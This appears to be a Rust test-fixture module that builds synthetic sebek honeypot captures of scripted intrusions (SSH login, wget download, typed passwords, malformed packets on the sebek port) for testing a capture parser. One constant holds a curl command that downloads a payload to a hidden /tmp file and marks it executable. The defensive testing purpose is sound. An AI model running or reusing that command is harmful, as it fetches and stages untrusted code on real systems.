//! A generator of sebek v3 traffic, from the documented layout (reference
//! §5), for fixtures and tests: no sebek client runs here.
//!
//! [`shell_session`] scripts an intrusion as a honeywall would capture it: an
//! sshd accepts a connection, forks a session that execs bash, the attacker
//! types commands (one read per keystroke), bash forks and execs wget, which
//! opens files and connects out; a pid is reused, sebek loses two records, and
//! a few hostile packets arrive on the sebek port. The TCP packets of both
//! connections are in the capture too, so socket records join to flows.
//! Pure: builds bytes in memory; [`write_pcap`] lays them out as a pcap file.

use super::decode::{HEADER_LEN, Header, RecordKind, SocketRecord, encode};

/// The honeypot running sebek.
pub const HONEYPOT: [u8; 4] = [10, 0, 0, 5];
/// Where sebek sends (the honeywall's sniffed address).
pub const COLLECTOR: [u8; 4] = [10, 0, 0, 254];
/// The attacker.
pub const ATTACKER: [u8; 4] = [198, 51, 100, 7];
/// The server wget downloads from.
pub const DOWNLOAD: [u8; 4] = [203, 0, 113, 9];
/// Capture clock of the first packet.
pub const START_SEC: u32 = 1_300_000_000;
/// The honeypot clock runs this many seconds behind the capture clock.
pub const HONEYPOT_LAG: u32 = 3_607;

/// One captured Ethernet frame with its capture time.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Frame {
    pub sec: u32,
    pub usec: u32,
    pub data: Vec<u8>,
}

/// Builds frames in time order.
pub struct Session {
    port: u16,
    sec: u32,
    usec: u32,
    counter: u32,
    pub frames: Vec<Frame>,
}

fn checksum(data: &[u8]) -> u16 {
    let mut sum: u32 = 0;
    for pair in data.chunks(2) {
        let hi = u32::from(pair[0]) << 8;
        let lo = pair.get(1).map_or(0, |b| u32::from(*b));
        sum += hi | lo;
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// Ethernet + IPv4 (no options) around a transport segment.
fn ipv4_frame(src: [u8; 4], dst: [u8; 4], proto: u8, segment: &[u8]) -> Vec<u8> {
    let mut f = Vec::with_capacity(34 + segment.len());
    f.extend_from_slice(&[
        0x00, 0x16, 0x3e, 0, 0, 2, 0x00, 0x16, 0x3e, 0, 0, 1, 0x08, 0x00,
    ]);
    let total = u16::try_from(20 + segment.len()).unwrap_or(u16::MAX);
    let mut ip = [0u8; 20];
    ip[0] = 0x45;
    ip[2..4].copy_from_slice(&total.to_be_bytes());
    ip[6] = 0x40;
    ip[8] = 64;
    ip[9] = proto;
    ip[12..16].copy_from_slice(&src);
    ip[16..20].copy_from_slice(&dst);
    let sum = checksum(&ip);
    ip[10..12].copy_from_slice(&sum.to_be_bytes());
    f.extend_from_slice(&ip);
    f.extend_from_slice(segment);
    f
}

fn com(name: &str) -> [u8; 12] {
    let mut c = [0u8; 12];
    for (d, s) in c.iter_mut().zip(name.bytes()) {
        *d = s;
    }
    c
}

/// What one sebek record says, before the counter and clocks are filled in.
pub struct Event<'a> {
    pub kind: RecordKind,
    pub pid: u32,
    pub ppid: u32,
    pub com: &'a str,
    pub fd: u32,
    pub inode: u32,
    pub uid: u32,
    pub data: &'a [u8],
}

impl Session {
    pub fn new(port: u16) -> Self {
        Session {
            port,
            sec: START_SEC,
            usec: 0,
            counter: 0,
            frames: Vec::new(),
        }
    }

    /// Advances the capture clock.
    pub fn wait(&mut self, usec: u32) {
        let total = u64::from(self.usec) + u64::from(usec);
        self.sec += (total / 1_000_000) as u32;
        self.usec = (total % 1_000_000) as u32;
    }

    fn push(&mut self, data: Vec<u8>) {
        self.frames.push(Frame {
            sec: self.sec,
            usec: self.usec,
            data,
        });
        self.wait(1_000);
    }

    fn udp(&mut self, payload: &[u8]) {
        let mut seg = Vec::with_capacity(8 + payload.len());
        seg.extend_from_slice(&self.port.to_be_bytes());
        seg.extend_from_slice(&self.port.to_be_bytes());
        let len = u16::try_from(8 + payload.len()).unwrap_or(u16::MAX);
        seg.extend_from_slice(&len.to_be_bytes());
        seg.extend_from_slice(&[0, 0]);
        seg.extend_from_slice(payload);
        self.push(ipv4_frame(HONEYPOT, COLLECTOR, 17, &seg));
    }

    /// Skips `n` counter values: records sebek lost.
    pub fn lose(&mut self, n: u32) {
        self.counter += n;
    }

    /// One sebek record from the honeypot.
    pub fn sebek(&mut self, e: &Event<'_>) {
        self.counter += 1;
        let h = Header {
            magic: 0xd0d0_d0d0,
            version: 3,
            kind: e.kind,
            counter: self.counter,
            time_sec: self.sec - HONEYPOT_LAG,
            time_usec: self.usec,
            parent_pid: e.ppid,
            pid: e.pid,
            uid: e.uid,
            fd: e.fd,
            inode: e.inode,
            com: com(e.com),
            length: 0,
        };
        let mut payload = Vec::with_capacity(HEADER_LEN + e.data.len());
        encode(&h, e.data, &mut payload);
        self.udp(&payload);
    }

    /// A raw payload on the sebek port (for hostile packets).
    pub fn raw_sebek_port(&mut self, payload: &[u8]) {
        self.udp(payload);
    }

    /// One TCP segment without payload.
    pub fn tcp(&mut self, src: ([u8; 4], u16), dst: ([u8; 4], u16), flags: u8) {
        let mut seg = [0u8; 20];
        seg[0..2].copy_from_slice(&src.1.to_be_bytes());
        seg[2..4].copy_from_slice(&dst.1.to_be_bytes());
        seg[12] = 0x50;
        seg[13] = flags;
        seg[14..16].copy_from_slice(&64240u16.to_be_bytes());
        self.push(ipv4_frame(src.0, dst.0, 6, &seg));
    }

    /// SYN, SYN+ACK, ACK from `client` to `server`.
    pub fn handshake(&mut self, client: ([u8; 4], u16), server: ([u8; 4], u16)) {
        self.tcp(client, server, 0x02);
        self.tcp(server, client, 0x12);
        self.tcp(client, server, 0x10);
    }

    /// A socket record of `pid` for `call` with the given local and remote end.
    pub fn socket(
        &mut self,
        (pid, ppid, name, fd): (u32, u32, &str, u32),
        call: u16,
        local: ([u8; 4], u16),
        remote: ([u8; 4], u16),
    ) {
        let rec = SocketRecord {
            remote_ip: u32::from_be_bytes(remote.0),
            remote_port: remote.1,
            local_ip: u32::from_be_bytes(local.0),
            local_port: local.1,
            call,
            proto: 6,
        };
        self.sebek(&Event {
            kind: RecordKind::Socket,
            pid,
            ppid,
            com: name,
            fd,
            inode: 7000 + fd,
            uid: 0,
            data: &rec.encode(),
        });
    }
}

/// A read record (empty `data`: a fork).
pub fn read<'a>(pid: u32, ppid: u32, com: &'a str, fd: u32, data: &'a [u8]) -> Event<'a> {
    Event {
        kind: RecordKind::Read,
        pid,
        ppid,
        com,
        fd,
        inode: 100 + fd,
        uid: 0,
        data,
    }
}

/// The scripted intrusion (see the module doc), on sebek port `port`.
/// Processes: 1 sshd(1000), 2 sshd(1001), 3 bash(1002, exec'ed from sshd),
/// 4 wget(1003, forked by bash), 5 the reused pid 1003 (a new sshd child).
pub fn shell_session(port: u16) -> Vec<Frame> {
    let mut s = Session::new(port);
    let ssh = (ATTACKER, 40001);
    let honeypot_ssh = (HONEYPOT, 22);
    // The socket record comes before its flow's packets: the join must wait.
    s.socket((1000, 1, "sshd", 3), 5, honeypot_ssh, ssh);
    s.handshake(ssh, honeypot_ssh);
    s.sebek(&read(1001, 1000, "sshd", 0, b""));
    s.sebek(&read(1002, 1001, "sshd", 0, b""));
    for key in [b"w", b"g", b"e", b"t", b" ", b"x", b"\n"] {
        s.wait(150_000);
        s.sebek(&read(1002, 1001, "bash", 0, key));
    }
    s.sebek(&Event {
        kind: RecordKind::Open,
        pid: 1002,
        ppid: 1001,
        com: "bash",
        fd: 3,
        inode: 555,
        uid: 0,
        data: b"/root/.bash_history",
    });
    s.sebek(&read(1003, 1002, "bash", 0, b""));
    s.sebek(&Event {
        kind: RecordKind::Open,
        pid: 1003,
        ppid: 1002,
        com: "wget",
        fd: 3,
        inode: 556,
        uid: 0,
        data: b"/etc/resolv.conf",
    });
    s.lose(2);
    let web = (DOWNLOAD, 80);
    let local = (HONEYPOT, 50123);
    s.handshake(local, web);
    s.socket((1003, 1002, "wget", 4), 3, local, web);
    s.sebek(&Event {
        kind: RecordKind::Write,
        pid: 1003,
        ppid: 1002,
        com: "wget",
        fd: 4,
        inode: 7004,
        uid: 0,
        data: b"GET /x HTTP/1.0\r\n\r\n",
    });
    s.sebek(&read(1003, 1002, "wget", 4, b"HTTP/1.0 200 OK\r\n\r\nELF"));
    s.wait(2_000_000);
    // pid 1003 reused by a new sshd child: a new process row.
    s.sebek(&read(1003, 1000, "sshd", 0, b""));
    hostile(&mut s);
    s.frames
}

/// A second scripted intrusion, for keystroke logs: the attacker (already
/// logged in: bash pid 2002 under sshd 2001) mistypes `uname -a` and fixes
/// it with backspaces (0x7f, one read per key), runs `passwd`, whose child
/// (pid 2003) reads the new password twice as whole lines (no echo), then
/// `su -` (pid 2004) reads the root password, and the root shell it forks
/// (pid 2005, uid 0) gets `ls` and an arrow key, then connects to
/// 203.0.113.66:6667 without a packet in the capture. Sebek port `port`; capture clock from `START_SEC + 1000`.
pub fn typing_session(port: u16) -> Vec<Frame> {
    let mut s = Session::new(port);
    s.wait(1_000_000_000);
    let ssh = (ATTACKER, 40002);
    s.handshake(ssh, (HONEYPOT, 22));
    s.socket((2001, 1, "sshd", 3), 5, (HONEYPOT, 22), ssh);
    s.sebek(&read(2002, 2001, "sshd", 0, b""));
    type_keys(&mut s, (2002, 2001, "bash"), b"unmae\x7f\x7f\x7fame -a\r");
    type_keys(&mut s, (2002, 2001, "bash"), b"passwd\r");
    s.sebek(&read(2003, 2002, "bash", 0, b""));
    for _ in 0..2 {
        s.wait(900_000);
        s.sebek(&read(2003, 2002, "passwd", 0, b"Hunter2!\n"));
    }
    type_keys(&mut s, (2002, 2001, "bash"), b"su -\r");
    s.sebek(&read(2004, 2002, "bash", 0, b""));
    s.wait(700_000);
    s.sebek(&read(2004, 2002, "su", 0, b"r00tpw\n"));
    // su forks the root shell (pid 2005), which runs as uid 0.
    s.sebek(&read(2005, 2004, "su", 0, b""));
    for key in [&b"l"[..], b"s", b"\x1b[A", b"\r"] {
        s.wait(150_000);
        s.sebek(&read(2005, 2004, "bash", 0, key));
    }
    // A connect whose packets never reached the capture: no flow to join.
    s.socket(
        (2005, 2004, "bash", 5),
        3,
        (HONEYPOT, 41000),
        ([203, 0, 113, 66], 6667),
    );
    s.frames
}

/// The attacker types `keys`, one read per key, into process (pid, ppid, com) as uid 1000.
fn type_keys(s: &mut Session, (pid, ppid, com): (u32, u32, &str), keys: &[u8]) {
    for k in keys.chunks(1) {
        s.wait(150_000);
        s.sebek(&Event {
            uid: 1000,
            ..read(pid, ppid, com, 0, k)
        });
    }
}

/// Packets on the sebek port that are not sebek v3: each must be counted and
/// skipped. Returns how many it added.
pub fn hostile(s: &mut Session) -> usize {
    let mut good = Vec::new();
    let h = Header {
        magic: 0,
        version: 3,
        kind: RecordKind::Read,
        counter: 0,
        time_sec: 0,
        time_usec: 0,
        parent_pid: 1,
        pid: 9,
        uid: 0,
        fd: 0,
        inode: 0,
        com: com("evil"),
        length: 0,
    };
    encode(&h, b"abc", &mut good);
    let mut past_end = good.clone();
    past_end[52..56].copy_from_slice(&0xffff_fff0u32.to_be_bytes());
    let mut v2 = good.clone();
    v2[5] = 2;
    let payloads: [&[u8]; 4] = [&past_end, &v2, &good[..20], b""];
    for p in payloads {
        s.raw_sebek_port(p);
    }
    payloads.len()
}

/// Hostile packets in [`shell_session`].
pub const HOSTILE_PACKETS: u64 = 4;

/// A pcap file (microsecond, Ethernet) holding `frames`.
pub fn write_pcap(frames: &[Frame]) -> Vec<u8> {
    let mut out = Vec::new();
    out.extend_from_slice(&0xa1b2_c3d4u32.to_le_bytes());
    out.extend_from_slice(&2u16.to_le_bytes());
    out.extend_from_slice(&4u16.to_le_bytes());
    out.extend_from_slice(&0i32.to_le_bytes());
    out.extend_from_slice(&0u32.to_le_bytes());
    out.extend_from_slice(&65535u32.to_le_bytes());
    out.extend_from_slice(&1u32.to_le_bytes());
    for f in frames {
        let len = u32::try_from(f.data.len()).unwrap_or(u32::MAX);
        for v in [f.sec, f.usec, len, len] {
            out.extend_from_slice(&v.to_le_bytes());
        }
        out.extend_from_slice(&f.data);
    }
    out
}

/// The command line [`paste_session`]'s shell reads in one read: 85 bytes,
/// more than the 59 of hflow2's `sys_read.data`, at most sbk_ks_log.pl's 100.
pub const PASTED: &[u8] =
    b"curl -s http://203.0.113.66/stage2/payload-x86_64.bin -o /tmp/.x && chmod +x /tmp/.x\r";

/// A third scripted session, for keystroke logs beyond the mirror's 59
/// bytes and across an exec: sshd (pid 3001) forks a root shell (pid 3002)
/// into which the attacker pastes a command line, read whole in one read
/// ([`PASTED`]); the shell then execs python (the same pid), which reads
/// `print(1)`. Sebek port `port`; capture clock from `START_SEC + 2000`.
pub fn paste_session(port: u16) -> Vec<Frame> {
    let mut s = Session::new(port);
    s.wait(2_000_000_000);
    s.sebek(&read(3002, 3001, "sshd", 0, b""));
    s.wait(150_000);
    s.sebek(&read(3002, 3001, "bash", 0, PASTED));
    s.wait(500_000);
    s.sebek(&read(3002, 3001, "python", 0, b"print(1)\r"));
    s.frames
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::capture::decode;
    use crate::sebek::parse;

    #[test]
    fn session_frames_decode_as_sebek_udp() {
        let frames = shell_session(1101);
        let mut sebek = 0;
        for f in &frames {
            let net = decode(1, &f.data).unwrap().net.unwrap();
            if net.proto == 17 {
                assert_eq!((net.src_port, net.dst_port), (1101, 1101));
                let seg = f.data.get(net.transport.unwrap().range()).unwrap();
                if parse(&seg[8..]).is_ok() {
                    sebek += 1;
                }
            }
        }
        assert_eq!(sebek, 17);
    }
}
